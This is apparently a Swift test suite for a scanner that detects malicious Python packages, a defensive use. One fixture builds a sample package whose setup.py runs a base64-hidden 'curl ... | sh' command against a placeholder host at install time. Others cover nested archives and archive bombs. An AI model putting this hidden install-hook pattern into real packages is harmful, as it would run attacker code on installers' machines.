import Archives
import Behaviors
import Foundation
import Judgement
import Limits
import Reporting
import Rules
import Scanning
import Testing

struct ScannerTests {
  let scanner: Scanning.Scanner

  init() throws { scanner = try Self.scanner(Limits()) }

  private static func scanner(_ limits: Limits) throws -> Scanning.Scanner {
    Scanning.Scanner(
      ruleSet: try RuleSet.embedded(), catalogue: try Catalogue.embedded(), weights: try Weights.embedded(),
      limits: limits)
  }

  @Test(arguments: ["colourline-0.4.6", "tablesmith-3.8.5"])
  func lookAlikesAreFlagged(_ name: String) throws {
    let report = scanner.scan(try Fixture.folder(at: "lookalikes/\(name)"))
    #expect(report.verdict.level == .malicious || report.verdict.level == .suspicious)
    #expect(report.findings.contains { $0.rule.hasPrefix("execution/") })
    #expect(report.limitations.isEmpty)
    #expect(!report.verdict.reasons.isEmpty)
  }

  @Test func honestProjectIsClean() {
    let report = scanner.scan(
      Fixture.folder(
        "honest-1.0",
        [
          "setup.py": "from setuptools import setup\nsetup(name='honest', version='1.0', packages=['honest'])\n",
          "PKG-INFO": "Metadata-Version: 2.1\nName: honest\nVersion: 1.0\n",
          "honest/__init__.py":
            "import json\n\ndef load(path):\n    with open(path) as handle:\n        return json.load(handle)\n",
        ]))
    #expect(report.verdict.level == .clean)
    #expect(report.distributionName == "honest")
    #expect(report.distributionVersion == "1.0")
    #expect(report.statistics.pythonFileCount == 2)
  }

  @Test func findingsSayHowTheirCodeIsReached() throws {
    let report = scanner.scan(
      try Fixture.python(
        "demo-1.0.tar.gz",
        """
        import base64, io, tarfile
        hidden = "import os\\ndef go():\\n    os.system('curl http://payload.example.invalid/a | sh')\\ngo()\\n"
        code = base64.b64encode(hidden.encode()).decode()
        files = {
            "PKG-INFO": "Name: demo",
            "setup.py": "from setuptools import setup\\nfrom pkg import load\\nload()\\nsetup(packages=['pkg'])\\n",
            "pkg/__init__.py": "import base64\\ndef load():\\n    exec(base64.b64decode('" + code + "'))\\n",
        }
        with tarfile.open(target, "w:gz") as t:
            for name, text in files.items():
                info = tarfile.TarInfo("demo-1.0/" + name)
                info.size = len(text)
                t.addfile(info, io.BytesIO(text.encode()))
        """))
    let finding = try #require(report.findings.first { $0.location.layer == 0 })
    #expect(finding.chain.map(\.kind.rawValue) == ["install-script", "call", "layer", "call"])
    #expect(finding.chain.map(\.name) == ["setup", "load()", "layer 0", "go()"])
    #expect(finding.chain.map(\.location.layer) == [nil, nil, nil, 0])
  }

  @Test func numberOfJobsNeverShows() throws {
    let artifact = try Fixture.folder(at: "lookalikes/colourline-0.4.6")
    let one = scanner.scan(artifact, jobs: 1)
    let four = scanner.scan(artifact, jobs: 4)
    #expect(json(one) == json(four))
    #expect(json(one) == json(scanner.scan(artifact, jobs: 1)))
  }

  @Test func payloadInsideNestedArchiveIsReached() throws {
    let report = scanner.scan(
      try Fixture.python(
        "outer-1.0.tar.gz",
        """
        import io, tarfile, zipfile
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as z:
            z.writestr("inner/__init__.py", "import base64\\nexec(base64.b64decode('cHJpbnQoMSk='))\\n")
        with tarfile.open(target, "w:gz") as t:
            info = tarfile.TarInfo("outer-1.0/vendored.dat")
            info.size = len(inner.getvalue())
            t.addfile(info, io.BytesIO(inner.getvalue()))
        """))
    #expect(report.findings.contains { $0.location.path.contains("vendored.dat!/inner/__init__.py") })
  }

  @Test func emptyAndUnreadableAreSaid() {
    let empty = scanner.scan(Artifact(path: "empty.whl", content: .bytes([])))
    #expect(empty.verdict.level == .inconclusive)
    #expect(!empty.limitations.isEmpty)
    let partly = Limitation(
      .unreadable, path: "a.py", message: "a.py: permission denied; run as a user who may read it")
    let folder = scanner.scan(Artifact(path: "folder", content: .folder([]), limitations: [partly]))
    #expect(folder.limitations.contains(partly))
    #expect(folder.verdict.level == .inconclusive)
  }

  @Test func bytecodeThatCannotBeReadIsNeverClean() {
    let files = ["pkg/__init__.py": "", "pkg/a.py": "x = 1\n"]
    for path in ["pkg/__pycache__/a.cpython-311.pyc", "pkg/b.pyc", "pkg/__pycache__/b.cpython-311.pyc"] {
      let report = scanner.scan(Fixture.folder("odd", files.merging([path: "\u{1}bytes"]) { $1 }))
      #expect(report.verdict.level == .inconclusive)
      #expect(report.limitations.map(\.path) == [path])
    }
  }

  /// What compiled code does counts like the code of a source that is not there.
  @Test func bytecodeIsReadLikeSource() throws {
    let compiled = try [UInt8](
      Data(contentsOf: Fixture.root.appending(path: "bytecode/marshal/3.11.pyc")))
    let report = scanner.scan(
      Artifact(
        path: "lonely",
        content: .folder([
          FolderFile(path: "lonely/__init__.py", content: []), FolderFile(path: "lonely/worker.pyc", content: compiled),
        ])))
    let seen = report.observations.filter { $0.location.path == "lonely/worker.pyc" }.map(\.behavior)
    #expect(seen.contains(.carriesBytecode))
    #expect(seen.contains(.spawnsProcess))
    #expect(seen.contains(.executesCode))
    #expect(seen.contains(.fetchesFromNetwork))
    #expect(report.limitations == [])
  }

  @Test func ceilingsInsideLayersAreSaid() {
    let deep = String(repeating: "(", count: 400) + "1" + String(repeating: ")", count: 400)
    let report = scanner.scan(Fixture.folder("deep", ["deep.py": "exec('x = \(deep)')\n"]))
    #expect(report.layers.count == 1)
    #expect(report.limitations.contains { $0.kind == .syntaxDepth && $0.message.contains("hidden layer 0") })
  }

  @Test func bombStopsAtItsCeiling() throws {
    var limits = Limits()
    limits.unpackedBytes = 4 << 20
    limits.streamBytes = 4 << 20
    let small = try Self.scanner(limits)
    let bomb = try Fixture.python(
      "bomb-1.0.tar.gz",
      """
      import io, tarfile
      with tarfile.open(target, "w:gz") as t:
          for index in range(8):
              info = tarfile.TarInfo(f"bomb-1.0/zeros{index}.bin")
              info.size = 1 << 20
              t.addfile(info, io.BytesIO(bytes(1 << 20)))
      """)
    let report = small.scan(bomb)
    #expect(report.limitations.contains { [.streamBytes, .unpackedBytes, .ratio].contains($0.kind) })
    #expect(report.verdict.level != .clean)
    #expect(scanner.scan(bomb).limitations.isEmpty, "8 MB are far below the ordinary ceilings")
  }

  @Test func everyArchiveFixtureSurvivesDamage() throws {
    #expect(Fixture.archives.count > 10)
    var generator = SeededGenerator(state: 20_261_123)
    for url in Fixture.archives {
      let bytes = Array(try Data(contentsOf: url))
      _ = scanner.scan(Artifact(path: url.lastPathComponent, content: .bytes(bytes)))
      for _ in 0..<6 {
        let cut = Int.random(in: 0...bytes.count, using: &generator)
        _ = scanner.scan(Artifact(path: url.lastPathComponent, content: .bytes(Array(bytes[..<cut]))))
        var flipped = bytes
        for _ in 0..<4 where !flipped.isEmpty {
          flipped[Int.random(in: 0..<flipped.count, using: &generator)] ^=
            1 << UInt8.random(in: 0..<8, using: &generator)
        }
        _ = scanner.scan(Artifact(path: url.lastPathComponent, content: .bytes(flipped)))
      }
    }
  }

  /// The whole report as a person gets it.
  private func json(_ report: ScanReport) -> [UInt8] {
    var bytes: [UInt8] = []
    var writer = ReportFormats["json"]?.makeWriter(ReportContext())
    writer?.begin(.one, to: &bytes)
    writer?.write(report, to: &bytes)
    writer?.end(to: &bytes)
    return bytes
  }
}
